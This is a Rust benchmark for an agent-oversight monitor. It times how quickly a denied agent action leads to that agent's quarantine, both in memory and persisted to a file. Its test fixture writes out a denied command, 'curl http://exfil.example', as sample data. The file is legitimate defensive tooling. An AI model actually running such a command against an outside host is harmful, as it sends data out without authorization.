//! From the moment a triggering action is journaled to the moment its quarantine is in force.
//!
//! Each round: a refused decision record of a fresh agent (already "journaled": the clock
//! starts where the gateway's journal append returns), the detectors observe it, the playbook
//! says quarantine, and the quarantine is put in force. Two figures:
//! - in force in this process: the in-memory list updated (the next action of the agent in
//!   this process is refused from here on);
//! - in force everywhere: also written to the quarantine file and renamed into place (other
//!   Warden processes see it at their next check; it survives a restart).
//!
//! Run: `cargo bench -p warden-monitor --bench quarantine` (prints p50/p99/max over ROUNDS).

use std::sync::Arc;
use std::time::Instant;

use hdrhistogram::Histogram;
use serde_json::json;
use warden_core::{ActionKind, AgentId, Effect, Event, EventBody, SessionId};
use warden_monitor::playbook::Response;
use warden_monitor::{
    Monitor, Observation, Playbook, Quarantine, QuarantineEntry, Rule, detectors,
};

const ROUNDS: u64 = 2_000;

fn monitor(quarantine: Quarantine) -> Monitor {
    let burst = detectors::build(
        "denial_burst",
        json!({"threshold": 1, "window_secs": 60, "severity": "high"}),
    )
    .expect("denial_burst builds");
    Monitor::new(
        vec![burst],
        Playbook::new(vec![Rule {
            detector: "*".into(),
            min_severity: warden_core::Severity::High,
            respond: vec![Response::Quarantine],
        }]),
        Arc::new(quarantine),
    )
}

fn refused(agent: &AgentId, i: u64) -> Event {
    Event {
        time_ms: 1_700_000_000_000 + i as i64,
        agent: agent.clone(),
        session: SessionId::from_raw(format!("{i:032x}")),
        body: EventBody::Decision {
            action: ActionKind::Exec,
            target: "/usr/bin/curl".into(),
            args_digest: "sha256:00".into(),
            args: json!({"argv": ["curl", "http://exfil.example"]}),
            effect: Effect::Deny,
            policies: vec![],
            reason: "no policy permits".into(),
        },
    }
}

fn measure(name: &str, monitor: &Monitor) {
    let mut hist = Histogram::<u64>::new(3).expect("histogram");
    for i in 0..ROUNDS {
        let agent = AgentId::new(format!("agent{i}")).expect("agent name");
        let event = refused(&agent, i);
        let start = Instant::now();
        let raised = monitor.observe(&Observation {
            seq: i + 1,
            event: &event,
            action: None,
        });
        for r in raised {
            if r.responses.contains(&Response::Quarantine) {
                monitor
                    .quarantine_now(QuarantineEntry {
                        agent: r.alert.agent.clone(),
                        level: warden_monitor::Level::Quarantine,
                        reason: r.alert.summary.clone(),
                        by: format!("detector:{}", r.alert.detector),
                        since_ms: 0,
                        evidence: r.alert.evidence.clone(),
                    })
                    .expect("quarantine");
            }
        }
        let elapsed = start.elapsed();
        assert!(
            monitor.quarantined(&agent).is_some(),
            "round {i} quarantined"
        );
        hist.record(elapsed.as_nanos() as u64).expect("record");
        // Keep the list as short as a real one, outside the timed part.
        monitor.quarantine().remove(&agent).expect("release");
    }
    println!(
        "{name:<48} p50 {:>8.1} µs   p99 {:>8.1} µs   max {:>8.1} µs   ({ROUNDS} rounds)",
        hist.value_at_quantile(0.5) as f64 / 1000.0,
        hist.value_at_quantile(0.99) as f64 / 1000.0,
        hist.max() as f64 / 1000.0
    );
}

fn main() {
    measure(
        "journaled → in force in this process",
        &monitor(Quarantine::in_memory()),
    );
    let dir = tempfile::tempdir().expect("tempdir");
    let file = Quarantine::open(dir.path().join("quarantine.json")).expect("list");
    measure(
        "journaled → in force everywhere (file written)",
        &monitor(file),
    );
}
